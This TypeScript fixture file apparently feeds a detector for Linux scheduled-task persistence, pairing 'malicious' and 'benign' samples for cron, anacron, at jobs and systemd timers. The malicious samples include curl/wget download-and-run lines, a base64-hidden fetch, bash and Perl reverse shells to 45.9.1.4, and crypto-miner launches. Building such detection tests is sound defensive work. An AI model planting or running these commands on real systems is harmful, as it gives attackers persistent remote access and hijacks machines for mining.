// Forms of what runs by the clock: cron, anacron, at, timers.
import { type Forms, type FormsByKind, script } from './form.ts'

const periodic = (directory: string): Forms => ({
  malicious: [
    { [`${directory}/0x`]: script('python3 -c "import base64;exec(base64.b64decode(\\"aW1wb3J0IG9z\\"))"') },
    { [`${directory}/oanacroner`]: script('nohup /var/tmp/.X25/kswapd0 >/dev/null 2>&1 &') },
    { [`${directory}/gcc.sh`]: script('cp /lib/libudev.so /lib/libudev.so.6\n/dev/shm/.lib/libudev.so.6') },
  ],
  benign: [
    {
      [`${directory}/logrotate`]: script(
        'if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\nEXITVALUE=$?\nif [ $EXITVALUE != 0 ]; then\n    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"\nfi\nexit $EXITVALUE',
      ),
      [`${directory}/backup`]: script(
        'set -e\nTMP=$(mktemp -d /tmp/backup.XXXXXX)\ntrap \'rm -rf "$TMP"\' EXIT\nmysqldump --all-databases | gzip > "$TMP/db.sql.gz"\n/usr/bin/rsync -a "$TMP/" backup@10.0.0.5:/srv/backup/\nfind /var/tmp -mtime +14 -delete\n/opt/backup/bin/prune.sh',
      ),
    },
    {
      [`${directory}/geoip`]: script(
        'cd /usr/share/GeoIP && curl -fsSL -o /tmp/geo.tgz https://download.maxmind.com/app/geoip.tar.gz && tar -xzf /tmp/geo.tgz && rm -f /tmp/geo.tgz',
      ),
    },
  ],
})

export const scheduled: FormsByKind = {
  'cron-d': {
    malicious: [
      { '/etc/cron.d/sysupd': '*/10 * * * * root wget -qO- http://45.9.148.35/s.sh | bash\n' },
      { '/etc/cron.d/zzh': '@reboot root /usr/share/.kde/upd >/dev/null 2>&1\n' },
      { '/etc/cron.d/java': '@reboot www-data /opt/jre/java -o stratum+tcp://p.example.com:3333 -u x\n' },
    ],
    benign: [
      {
        '/etc/cron.d/certbot':
          "SHELL=/bin/sh\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n",
        '/etc/cron.d/e2scrub_all':
          '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
        '/etc/cron.d/php':
          '09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n',
      },
      {
        '/etc/cron.d/mining-watch':
          '*/5 * * * * root pgrep -f "xmrig|stratum" && logger "miner found"\n*/5 * * * * root grep -r "stratum+tcp://" /var/log/squid/access.log | mail -s pools root\n*/5 * * * * nagios /usr/lib/nagios/plugins/check_tcp -H pool.example.com -p 3333\n0 4 * * * root curl -s https://feeds.example.com/stratum.txt -o /etc/blocklists/pools.txt\n',
      },
    ],
  },
  'system-crontab': {
    malicious: [
      {
        '/etc/crontab':
          '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n* * * * * root echo Y3VybCBodHRwOi8vNDUuOS4xLjQvYXxzaA== | base64 -d | bash\n',
      },
      { '/etc/crontab': '*/3 * * * * root /etc/.zl\n' },
      { '/etc/crontab': "* * * * * root bash -c 'bash -i >& /dev/tcp/45.9.1.4/443 0>&1'\n" },
    ],
    benign: [
      {
        '/etc/crontab':
          'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n30 2 * * * root /opt/backup/backup.sh >/var/log/backup.log 2>&1\n',
      },
    ],
  },
  'cron-hourly': periodic('/etc/cron.hourly'),
  'cron-daily': periodic('/etc/cron.daily'),
  'cron-weekly': periodic('/etc/cron.weekly'),
  'cron-monthly': periodic('/etc/cron.monthly'),
  'cron-yearly': periodic('/etc/cron.yearly'),
  'cron-15min': periodic('/etc/periodic/15min'),
  'user-crontab': {
    malicious: [
      { '/var/spool/cron/crontabs/bob': '* * * * * /home/bob/.cache/.upd/run.sh\n' },
      { '/var/spool/cron/root': '*/15 * * * * (curl -fsSL http://45.9.1.4/init.sh||wget -q -O- http://45.9.1.4/init.sh)|sh\n' },
      { '/var/spool/cron/crontabs/bob': '@reboot /home/bob/.config/.x11/Xorg -a rx/0 --url pool.hashvault.pro:443 --user 4x --tls\n' },
      {
        '/var/spool/cron/crontabs/bob':
          '@reboot perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("45.9.1.4")));open(STDIN,">&S");exec("/bin/sh -i")\'\n',
      },
    ],
    benign: [
      {
        '/var/spool/cron/crontabs/bob':
          'MAILTO=bob\n0 3 * * * /home/bob/bin/backup.sh\n*/5 * * * * cd /home/bob/app && /home/bob/.local/bin/poetry run python manage.py cron\n0 0 * * * "/home/bob/.acme.sh"/acme.sh --cron --home "/home/bob/.acme.sh" > /dev/null\n@reboot /home/bob/.nvm/versions/node/v20.1.0/bin/pm2 resurrect\n',
      },
      {
        '/var/spool/cron/root':
          '0 4 * * * /opt/backup/restic.sh\n@daily curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f2c\n@reboot sleep 60 && /root/scripts/start.sh\n',
      },
    ],
  },
  anacron: {
    malicious: [{ '/etc/anacrontab': '1 5 x nohup /dev/shm/.a/b >/dev/null 2>&1 &\n' }],
    benign: [
      {
        '/etc/anacrontab':
          'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly\n',
      },
    ],
  },
  at: {
    malicious: [
      {
        '/var/spool/cron/atjobs/a00001019c3f5a': {
          content:
            '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd / || {\n\t echo x >&2\n\t exit 1\n}\ncurl -s http://45.9.1.4/at | sh\n',
          mode: 0o700,
        },
      },
      {
        '/var/spool/cron/atjobs/a00001019c3f5a': {
          content:
            '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /tmp || {\n\t echo x >&2\n\t exit 1\n}\n/var/tmp/.at/run &\n',
          mode: 0o700,
        },
      },
    ],
    benign: [
      {
        '/var/spool/cron/atjobs/a00002019c3f5a': {
          content:
            '#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail bob 0\numask 22\nHOME=/home/bob; export HOME\ncd /home/bob || {\n\t echo x >&2\n\t exit 1\n}\n/home/bob/bin/report.sh --mail\n',
          mode: 0o700,
        },
      },
      {
        '/var/spool/cron/atjobs/a00002019c3f5a': {
          content:
            '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n\t echo x >&2\n\t exit 1\n}\n/sbin/shutdown -r now\n',
          mode: 0o700,
        },
      },
    ],
  },
  'systemd-timer': {
    malicious: [
      {
        '/etc/systemd/system/kube.timer': '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n[Install]\nWantedBy=timers.target\n',
        '/etc/systemd/system/timers.target.wants/kube.timer': { link: '/etc/systemd/system/kube.timer' },
        '/etc/systemd/system/kube.service': '[Service]\nExecStart=/var/tmp/.k/kube\n',
      },
      {
        '/etc/systemd/system/upd.timer': '[Timer]\nOnCalendar=*:0/5\n[Install]\nWantedBy=timers.target\n',
        '/etc/systemd/system/timers.target.wants/upd.timer': { link: '/etc/systemd/system/upd.timer' },
        '/etc/systemd/system/upd.service': '[Service]\nExecStart=/bin/sh -c "curl -s http://45.9.1.4/u | sh"\n',
      },
    ],
    benign: [
      {
        '/usr/lib/systemd/system/fstrim.timer':
          '[Unit]\nDescription=Discard unused blocks\n[Timer]\nOnCalendar=weekly\n[Install]\nWantedBy=timers.target\n',
        '/usr/lib/systemd/system/fstrim.service':
          '[Service]\nType=oneshot\nExecStart=/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported\n',
        '/etc/systemd/system/timers.target.wants/fstrim.timer': { link: '/usr/lib/systemd/system/fstrim.timer' },
        '/etc/systemd/system/backup.timer': '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n',
        '/etc/systemd/system/backup.service': '[Service]\nType=oneshot\nExecStart=/opt/backup/bin/backup --target /srv/backup\n',
        '/etc/systemd/system/timers.target.wants/backup.timer': { link: '/etc/systemd/system/backup.timer' },
      },
    ],
  },
}
